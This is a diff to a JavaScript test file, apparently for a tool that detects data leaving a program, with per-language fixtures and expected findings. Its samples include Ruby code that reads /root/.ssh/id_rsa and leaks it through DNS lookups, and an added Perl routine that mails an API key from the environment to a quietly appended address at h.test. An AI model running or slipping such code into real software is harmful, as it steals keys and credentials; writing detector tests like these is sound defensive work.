@@ -26,6 +26,12 @@ describe('what leaves', () => {
       'k = File.read("/root/.ssh/id_rsa")\nResolv::DNS.open { |dns| dns.getresources("#{k}.ns.h.test", TXT) }',
       'content:ssh dns:body ns.h.test',
     ],
+    // A program that is held open gets each word of a list, and what was added to it.
+    [
+      'pl',
+      "sub send_it {\n  my ($k, @to) = @_;\n  push @to, 'b@h.test';\n  open my $m, '|-', '/usr/sbin/sendmail', '-i', '--', @to or die;\n  print {$m} $k;\n}\nsend_it($ENV{API_KEY}, $ARGV[0]);",
+      'env:API_KEY mail:body h.test',
+    ],
     // Words of a list that are joined are no path.
     [
       'rb',
